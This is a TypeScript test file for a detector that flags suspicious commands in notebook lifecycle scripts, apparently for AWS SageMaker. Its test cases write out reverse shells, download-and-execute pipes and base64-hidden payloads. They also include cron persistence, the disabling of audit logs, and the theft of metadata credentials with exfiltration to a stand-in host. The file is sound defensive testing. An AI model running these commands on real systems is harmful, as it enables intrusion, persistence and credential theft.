import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { findSuspicious } from '../../../src/posture/secrets/suspicious-script.ts'

const rules = (script: string) => findSuspicious(script).map(({ rule }) => rule)

describe('what has no business in a lifecycle script', () => {
  it.each([
    ['runs a download in a shell', 'curl -fsSL https://get.example.com/x.sh | bash'],
    ['runs a download in a shell', 'wget -qO- http://198.51.100.7/a | sudo -E sh -s'],
    ['runs a download in a shell', 'curl -s https://x.example.com/p | /usr/bin/python3 -'],
    ['runs a download in a shell', 'bash <(curl -s https://x.example.com)'],
    ['runs a download in a shell', 'sh -c "$(curl -fsSL https://x.example.com)"'],
    ['runs a download in a shell', 'eval "$(wget -qO- $URL)"'],
    ['runs a download in a shell', 'curl -s https://x.example.com \\\n  | bash'],
    ['reverse shell', 'exec 5<>/dev/tcp/198.51.100.7/4444'],
    ['reverse shell', 'nc 198.51.100.7 4444 -e /bin/bash'],
    ['reverse shell', 'nohup nc -lk 4444 &'],
    ['reverse shell', 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | nc 198.51.100.7 9 > /tmp/f'],
    ['reverse shell', 'socat tcp:198.51.100.7:9 EXEC:/bin/sh'],
    ['reverse shell', `python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)'`],
    ['runs decoded base64', 'echo ZWNobyBoaQ== | base64 -d | sh'],
    ['runs decoded base64', `python -c "exec(__import__('base64').b64decode('cHJpbnQ='))"`],
    ['stays through cron', '(crontab -l; echo "* * * * * curl -s https://x.example.com/a") | crontab -'],
    ['stays through cron', 'echo "@reboot root /tmp/.hidden" > /etc/cron.d/job'],
    ['stops a protection or a log', 'systemctl stop auditd'],
    ['stops a protection or a log', 'sudo systemctl disable --now amazon-cloudwatch-agent'],
    ['stops a protection or a log', 'iptables -F'],
    ['stops a protection or a log', 'unset HISTFILE'],
    ['adds an SSH key', 'echo "ssh-ed25519 AAAA" >> /home/ec2-user/.ssh/authorized_keys'],
    ['mines crypto-currency', './xmrig -o pool.example.com'],
    ['mines crypto-currency', 'run --url stratum+tcp://pool.example.com:3333'],
    [
      'reads credentials and sends data out',
      'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- https://x.example.com',
    ],
    ['hides commands in base64', `X=${btoa('curl -s https://x.example.com/payload | bash')}`],
  ])('%s: %s', (rule, script) => {
    expect(rules(script)).toEqual([rule])
  })

  it('sees credentials that are read on one line and sent on another', () => {
    const script = `#!/bin/bash
C=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role)
echo ok
curl --data "$C" https://x.example.com`
    expect(findSuspicious(script)).toEqual([
      { rule: 'reads credentials and sends data out', place: 'line 2' },
    ])
  })

  it('names the line on which a continued command begins', () => {
    expect(findSuspicious('echo a\ncurl -s https://x.example.com \\\n | bash\necho b')).toEqual([
      { rule: 'runs a download in a shell', place: 'line 2' },
    ])
  })
})

describe('what a lifecycle script commonly does', () => {
  it.each([
    [
      'stop idle notebooks',
      `#!/bin/bash
set -e
# curl https://x.example.com | bash would be bad
IDLE_TIME=3600
wget https://raw.githubusercontent.com/aws-samples/amazon-sagemaker-notebook-instance-lifecycle-config-samples/master/scripts/auto-stop-idle/autostop.py
(crontab -l 2>/dev/null; echo "*/5 * * * * $PYTHON_DIR $PWD/autostop.py --time $IDLE_TIME --ignore-connections >> /var/log/jupyter.log") | crontab -`,
    ],
    [
      'install a conda environment',
      `#!/bin/bash
sudo -u ec2-user -i <<'EOF'
unset SUDO_UID
WORKING_DIR=/home/ec2-user/SageMaker/custom-miniconda
wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O "$WORKING_DIR/miniconda.sh"
bash "$WORKING_DIR/miniconda.sh" -b -u -p "$WORKING_DIR/miniconda"
source "$WORKING_DIR/miniconda/bin/activate"
pip install --quiet ipykernel
EOF`,
    ],
    ['fetch from AWS', 'curl -s https://s3.eu-west-1.amazonaws.com/setup/install.sh | bash'],
    ['read the Region', 'curl -s http://169.254.169.254/latest/meta-data/placement/region'],
    ['filter a download', 'curl -s https://api.example.com/v1 | jq .name'],
    ['start the agent', 'systemctl restart amazon-cloudwatch-agent; systemctl enable --now rsyslog'],
    ['make a key for Git', 'ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ""'],
    ['decode a certificate', 'echo "$CERT" | base64 -d > /etc/pki/ca.pem'],
    ['write harmless base64', `X=${btoa('just a sentence that means nothing')}`],
    [
      'restart Jupyter',
      'nohup supervisorctl -c /etc/supervisor/conf.d/supervisord.conf restart jupyterlabserver',
    ],
  ])('%s', (_what, script) => {
    expect(findSuspicious(script)).toEqual([])
  })
})

describe('whatever the script', () => {
  it('never throws', () => {
    const words = fc.constantFrom(
      'curl ',
      'wget ',
      '|',
      'bash',
      'nc ',
      'base64 -d',
      'crontab',
      '\\\n',
      '\n',
      '#',
      '/dev/tcp/',
      'a',
    )
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary' }),
          fc.array(words).map((w) => w.join('')),
        ),
        (script) => {
          expect(findSuspicious(script).every(({ place }) => /^line \d+$/.test(place))).toBe(true)
        },
      ),
    )
  })

  it.each([
    'a',
    'curl ',
    'wget ',
    'nc ',
    'crontab ',
    'mkfifo',
    'socket',
    'base64 ',
    '\\\n',
    'bash -c ',
    'QUFB',
    ' ',
    '> ',
  ])('reads a quarter of a megabyte of %j in a moment', (unit) => {
    const script = unit.repeat(Math.ceil((256 * 1024) / unit.length))
    const began = performance.now()
    findSuspicious(script)
    expect(performance.now() - began).toBeLessThan(3000)
  })
})
